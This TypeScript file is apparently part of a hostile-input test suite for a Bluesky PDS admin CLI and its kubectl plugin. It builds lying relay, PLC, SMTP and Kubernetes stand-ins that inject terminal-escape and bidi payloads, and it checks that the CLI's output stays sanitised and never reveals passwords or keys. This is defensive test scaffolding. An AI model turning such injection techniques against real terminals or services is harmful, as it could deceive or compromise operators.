      c.relay.answer('com.atproto.sync.getRepoStatus', (req) => ({ json: { did: req.query.get('did'), active: false, status: 'throttled' } }))
      c.relay.lie('com.atproto.sync.getHostStatus', (real) => (real.json === undefined ? undefined : { json: { ...(poison(real.json, p, ['status', 'hostname']) as object), seq: 1_000_000_000 } }))
      return { args: ['relay', 'status', '--relay', c.relay.url, '--hostname', 'pds.example.com'], env: realPdsEnv(c) }
    },
    error: async (c, p) => {
      c.relay.lie('com.atproto.sync.getHostStatus', (real) => (real.json === undefined ? undefined : { json: { ...(real.json as object), status: 'active', seq: 1_000_000_000 } }))
      answerError(c, 'com.atproto.sync.getRepoStatus', p, 'relay', 500)
      return { args: ['relay', 'status', '--relay', c.relay.url, '--hostname', 'pds.example.com'], env: realPdsEnv(c) }
    },
    expect: { data: [0], error: [0] },
    errorPayloads: LIGHT,
    ptyPayloads: ['escapes'],
  },
  {
    name: 'doctor (relays, firehose)',
    data: async (c, p) => {
      lieJson(c, 'com.atproto.sync.getHostStatus', p, ['status', 'hostname'], 'relay')
      return { args: ['doctor', '--relay', c.relay.url, '--public-url', c.w.bed.url], env: realPdsEnv(c, { PDS_HOSTNAME: 'pds.example.com' }) }
    },
    error: async (c, p) => {
      answerError(c, 'com.atproto.sync.getHostStatus', p, 'relay', 500)
      return { args: ['doctor', '--relay', c.relay.url, '--public-url', c.w.bed.url], env: realPdsEnv(c, { PDS_HOSTNAME: 'pds.example.com' }) }
    },
    // A relay that fails is a warning (README "doctor").
    expect: { data: [0, 6], error: [0] },
    errorPayloads: LIGHT,
    ptyPayloads: ['layout'],
  },
  // ---- account migrate (issue 20): two PDSes (two lying servers in front of the bed) and the directory ----
  {
    name: 'account migrate --status',
    data: async (c, p) => {
      const old = await otherPds(c)
      old.lie('*', (real) => (real.json === undefined ? undefined : { json: poison(real.json, p, ['handle', 'email', 'status']) }))
      lyingPlc(c, p)
      return { args: ['account', 'migrate', c.w.acct.a.handle, '--from', old.url, '--status', '--plc-url', c.plc.url], env: pdsEnv(c) }
    },
    error: async (c, p) => {
      const old = await otherPds(c)
      old.answer('*', () => hostileXrpcError(p, 500))
      return { args: ['account', 'migrate', c.w.acct.a.did, '--from', old.url, '--status', '--plc-url', c.plc.url], env: pdsEnv(c) }
    },
    expect: { data: [0, 1, 4, 6], error: [1] },
    errorPayloads: LIGHT,
    ptyPayloads: ['escapes'],
  },
  {
    name: 'account migrate --dry-run',
    data: async (c, p) => {
      const old = await otherPds(c)
      old.lie('*', (real) => (real.json === undefined ? undefined : { json: poison(real.json, p, ['handle', 'email', 'status']) }))
      lyingPlc(c, p)
      return { args: ['account', 'migrate', c.w.acct.a.did, '--from', old.url, '--dry-run', '--plc-url', c.plc.url], env: pdsEnv(c) }
    },
    error: async (c, p) => {
      const old = await otherPds(c)
      old.answer('com.atproto.sync.getRepoStatus', () => hostileXrpcError(p, 500))
      return { args: ['account', 'migrate', c.w.acct.a.did, '--from', old.url, '--dry-run', '--plc-url', c.plc.url], env: pdsEnv(c) }
    },
    expect: { data: [0, 1, 2, 6], error: [1] },
    errorPayloads: LIGHT,
    ptyPayloads: ['c1-bidi'],
  },
  {
    name: 'account migrate (a run)',
    // The new PDS (the connected one) does not have the account yet; the old one refuses the
    // service-auth step with the payload; the password never shows.
    error: async (c, p) => {
      const old = await otherPds(c)
      c.pds.answer('com.atproto.sync.getRepoStatus', (req) => ({ status: 400, json: { error: 'RepoNotFound', message: `Could not find repo for DID: ${req.query.get('did')}` } }))
      old.answer('com.atproto.server.getServiceAuth', () => hostileXrpcError(p, 400))
      return { args: ['account', 'migrate', c.w.acct.b.did, '--from', old.url, '--password-stdin', '--yes', '--plc-url', c.plc.url], env: pdsEnv(c), stdin: c.w.acct.b.password + '\n', secrets: [c.w.acct.b.password] }
    },
    expect: { error: [1, 2] },
    ptyPayloads: ['layout'],
  },
  // ---- kubectl pds: the same commands through the plugin's entry ----
  {
    name: 'kubectl pds status',
    data: async (c, p) => {
      const f = await hostileKube(c, p)
      return { args: ['status', '-n', 'bluesky'], env: { ...f.env, PDS_ADMIN_PASSWORD: c.adminPassword }, bin: KUBECTL_PDS }
    },
    expect: { data: [0, 6] },
    // What the cluster says is sanitised as for `k8s status` (that row has every string): this one proves the plugin's entry.
    payloads: ['escapes', 'c1-bidi'],
    ptyPayloads: ['escapes'],
  },
  {
    name: 'kubectl pds account list',
    // The pods forward to the lying PDS; the admin password comes from the cluster's Secret.
    data: async (c, p) => {
      lieJson(c, 'com.atproto.admin.getAccountInfos', p, INFO_FIELDS)
      const f = await hostileKube(c, p, c.pds.port)
      return { args: ['account', 'list', '-n', 'bluesky'], env: f.env, bin: KUBECTL_PDS }
    },
    error: async (c, p) => {
      answerError(c, 'com.atproto.admin.getAccountInfos', p)
      const f = await hostileKube(c, p, c.pds.port)
      return { args: ['account', 'list', '-n', 'bluesky'], env: f.env, bin: KUBECTL_PDS }
    },
    expect: { data: [0], error: [1] },
    tsvFields: 6,
    // The admin password comes from the cluster's Secret, through a port-forward: a JSON and a 401 echo (the rest are the plain rows').
    adminKey: 'com.atproto.admin.getAccountInfos',
    secretsEchoes: ['json-message', 'text-401'],
    // The PDS's text is sanitised as for `account list` (every string there): this row proves the plugin's entry and its port-forward.
    payloads: ['escapes', 'layout'],
    ptyPayloads: ['layout'],
  },
]

const KUBECTL_PDS = path.join(ROOT, 'bin/kubectl-pds.js')
/** An old host no account points at (the move-host row's directory says the first one does). */
const MOVE_FROM = 'https://old-host.example.com'

/** The relay rows: the PDS itself tells no lie (its firehose, a WebSocket, is what they read of it). */
const realPdsEnv = (c: Ctx, extra: Record<string, string | undefined> = {}) => ({ PDS_URL: c.w.bed.url, PDS_ADMIN_PASSWORD: c.adminPassword, ...extra })
const identityArgs = (c: Ctx) => ['--plc-url', c.plc.url, '--public-url', c.w.bed.publicUrl]
/** The PDS's rotation key as the identity commands read it (never printed: each case checks). */
const identityEnv = (c: Ctx) => pdsEnv(c, { PDS_PLC_ROTATION_KEY_K256_PRIVATE_KEY_HEX: c.w.bed.rotationKeyHex, PDS_RECOVERY_DID_KEY: c.w.bed.recoveryDidKey })

/**
 * The PLC directory lies: its document, data and audit log (the genesis operation) carry the
 * payload in the handle (alsoKnownAs), the PDS endpoint and the first rotation key; with
 * `moved`, every answer names `moved.to` as the PDS where it said `moved.from`.
 */
function lyingPlc(c: Ctx, p: string, moved?: { from: string; to: string }): void {
  c.plc.lie('*', (real) => {
    if (real.json === undefined) return undefined
    const json = moved ? JSON.parse(JSON.stringify(real.json).replaceAll(JSON.stringify(moved.from).slice(1, -1), moved.to)) : real.json
    return { json: poison(json, p, ['alsoKnownAs', 'rotationKeys', 'serviceEndpoint', ...(moved ? [] : ['endpoint'])]) }
  })
}

/** A second lying server in front of the same PDS: `account migrate`'s other side. */
async function otherPds(c: Ctx): Promise<LyingServer> {
  const other = await startLyingServer({ upstream: c.w.bed.url })
  c.later(() => other.close())
  return other
}

async function newDidKey(): Promise<string> {
  const { Secp256k1Keypair } = await import('@atproto/crypto')
  return (await Secp256k1Keypair.create()).did()
}

function envQuote(s: string): string {
  return s.replace(/\\/g, '\\\\').replace(/"/g, '\\"').replace(/\n/g, '\\n')
}

/**
 * An SMTP server, for one case, that says what it is told byte for byte (an SMTP library
 * would clean its own replies): RCPT TO refused with `rcpt`, AUTH refused with `auth(user, pass)`.
 */
export async function hostileSmtp(c: Ctx, say: { rcpt?: string; auth?: (user: string, pass: string) => string }): Promise<number> {
  const line = (s: string) => s.replace(/\r?\n/g, ' ')
  const server = net.createServer((sock) => {
    sock.on('error', () => {})
    const reply = (s: string) => sock.write(s + '\r\n', 'utf8')
    reply('220 hostile.example ESMTP')
    let buf = ''
    let inData = false
    let authStep: 'plain' | 'login-user' | 'login-pass' | undefined
    let loginUser = ''
    const refuseAuth = (user: string, pass: string) => reply(`535 5.7.8 ${line(say.auth ? say.auth(user, pass) : 'no')}`)
    sock.on('data', (d: Buffer) => {
      buf += d.toString('utf8')
      for (let i = buf.indexOf('\r\n'); i >= 0; i = buf.indexOf('\r\n')) {
        const cmd = buf.slice(0, i)
        buf = buf.slice(i + 2)
        if (inData) {
          if (cmd === '.') {
            inData = false
            reply('250 2.0.0 queued')
          }
          continue
        }
        const b64 = (s: string) => Buffer.from(s, 'base64').toString('utf8')
        if (authStep === 'plain') {
          authStep = undefined
          const [, user, pass] = b64(cmd).split('\0')
          refuseAuth(user ?? '', pass ?? '')
          continue
        }
        if (authStep === 'login-user') {
          loginUser = b64(cmd)
          authStep = 'login-pass'
          reply('334 UGFzc3dvcmQ6')
          continue
        }
        if (authStep === 'login-pass') {
          authStep = undefined
          refuseAuth(loginUser, b64(cmd))
          continue
        }
        const verb = cmd.split(' ')[0].toUpperCase()
        if (verb === 'EHLO') sock.write(`250-hostile.example\r\n${say.auth ? '250-AUTH PLAIN LOGIN\r\n' : ''}250 8BITMIME\r\n`)
        else if (verb === 'HELO' || verb === 'MAIL' || verb === 'RSET' || verb === 'NOOP') reply('250 2.0.0 OK')
        else if (verb === 'RCPT') reply(say.rcpt ? `550 5.1.1 <op@example.com>: ${line(say.rcpt)}` : '250 2.1.5 OK')
        else if (verb === 'DATA') {
          inData = true
          reply('354 go ahead')
        } else if (verb === 'AUTH') {
          const [, mech, arg] = cmd.split(' ')
          if (/^plain$/i.test(mech) && arg) {
            const [, user, pass] = b64(arg).split('\0')
            refuseAuth(user ?? '', pass ?? '')
          } else if (/^plain$/i.test(mech)) {
            authStep = 'plain'
            reply('334 ')
          } else {
            authStep = 'login-user'
            reply('334 VXNlcm5hbWU6')
          }
        } else if (verb === 'QUIT') {
          reply('221 2.0.0 bye')
          sock.end()
        } else reply('502 5.5.2 not implemented')
      }
    })
  })
  const sockets = new Set<net.Socket>()
  server.on('connection', (s) => {
    sockets.add(s)
    s.on('close', () => sockets.delete(s))
  })
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()))
  c.later(
    () =>
      new Promise<void>((r) => {
        server.close(() => r())
        for (const s of sockets) s.destroy()
      }),
  )
  return (server.address() as { port: number }).port
}

/** A fake cluster whose objects carry the payload (an event's reason and message, a pod's waiting reason). */
async function hostileKube(c: Ctx, p: string, backendPort = c.w.bed.port): Promise<FakeKube> {
  const now = new Date().toISOString()
  const f = await startFakeKube({
    backendPort,
    // The admin password from the Secret the Deployment reads (as `kubectl pds` finds it).
    containerEnv: [{ name: 'PDS_ADMIN_PASSWORD', valueFrom: { secretKeyRef: { name: 'pds-secrets', key: 'adminPassword' } } }],
    secrets: { 'pds-secrets': { adminPassword: c.adminPassword } },
    rewrite: (req, body) => {
      const b = body as { kind?: string; items?: Array<Record<string, any>> }
      if (!Array.isArray(b?.items)) return body
      if (b.kind === 'EventList') {
        const event = {
          metadata: { name: 'bluesky-0.hostile', namespace: 'bluesky', creationTimestamp: now },
          involvedObject: { kind: 'Pod', name: 'bluesky-0', namespace: 'bluesky' },
          reason: 'BackOff' + p,
          message: p,
          type: 'Warning',
          count: 3,
          lastTimestamp: now,
        }
        return { ...b, items: [...b.items, event] }
      }
      if (b.kind === 'PodList' && /\/pods\b/.test(req.path)) {
        return {
          ...b,
          items: b.items.map((it, i) => {
            const cs = it.status?.containerStatuses?.[0]
            if (i !== 0 || !cs) return it
            return { ...it, status: { ...it.status, containerStatuses: [{ ...cs, state: { waiting: { reason: 'CrashLoopBackOff' + p, message: p } } }, ...it.status.containerStatuses.slice(1)] } }
          }),
        }
      }
      return body
    },
  })
  c.later(() => f.close())
  return f
}

// ---- The terminal family: every row × string × (text, --json) × (piped, pty) ----

export type Screen = 'piped' | 'pty'

export function payloadsOf(spec: CommandSpec): PayloadKind[] {
  return spec.payloads ?? (Object.keys(PAYLOADS) as PayloadKind[])
}

export async function runTerminalCase(w: HostileWorld, spec: CommandSpec, where: Where, kind: PayloadKind, json: boolean, screen: Screen): Promise<void> {
  const c = await newCtx(w)
  try {
    const make = spec[where]!
    const setup = await make(c, PAYLOADS[kind])
    const args = [...setup.args, ...(json ? ['--json'] : [])]
    const run = screen === 'pty' ? await runOnPty(args, setup.env ?? {}, 90_000, setup.stdin, setup.bin) : await spawnCli(args, setup.env ?? {}, 90_000, setup.stdin, setup.bin)
    const label = `${spec.name} [${where}, ${kind}]${json ? ' --json' : ''} ${screen}`
    // Debugging a row: HOSTILE_SHOW=1 prints what each case's pdsctl printed.
    if (process.env.HOSTILE_SHOW) process.stderr.write(`\n=== ${label} exit ${run.code}\n--- stdout\n${JSON.stringify(run.stdout.slice(0, 3000))}\n--- stderr\n${JSON.stringify(run.stderr.slice(0, 3000))}\n`)
    assertTerminalSafe(label, run, json, { codes: spec.expect[where]!, shown: spec.shown?.[where], tsvFields: where === 'data' ? spec.tsvFields : undefined, layoutKept: spec.layoutKept })
    if (setup.secrets?.length) assertNoSecret(label, run, setup.secrets)
  } finally {
    await c.close()
  }
}

/**
 * One terminal table (a slice of it, so node can run files side by side): every row ×
 * where × string × output, on `screen`.
 */
export function terminalTable(name: string, line: PdsLine, screen: Screen, gate: number, filter: (spec: CommandSpec) => boolean = () => true): void {
  describe(`hostile suite: terminal, ${name}`, { concurrency: gate }, () => {
    let w: HostileWorld
    const tally = newTally(`terminal, ${name}`, tableChooser())
    before(async () => {
      w = await startHostileWorld(line)
    })
    after(async () => {
      printTally(tally)
      await stopHostileWorld(w)
    })
    for (const spec of COMMANDS.filter(filter)) {
      for (const where of ['data', 'error'] as const) {
        if (!spec[where]) continue
        for (const kind of where === 'error' && spec.errorPayloads ? spec.errorPayloads : payloadsOf(spec)) {
          if (screen === 'pty' && spec.ptyPayloads && !spec.ptyPayloads.includes(kind)) continue
          for (const json of [false, true]) {
            hostileCase(tally, `${spec.name} [${where}, ${kind}]${json ? ' --json' : ''} ${screen}`, () => runTerminalCase(w, spec, where, kind, json, screen))
          }
        }
      }
    }
  })
}

export { newCtx }

/** A file written executable (a wrapper standing in for kubectl). */
export function makeExecutable(file: string, text: string): string {
  writeFileSync(file, text)
  chmodSync(file, 0o755)
  return file
}
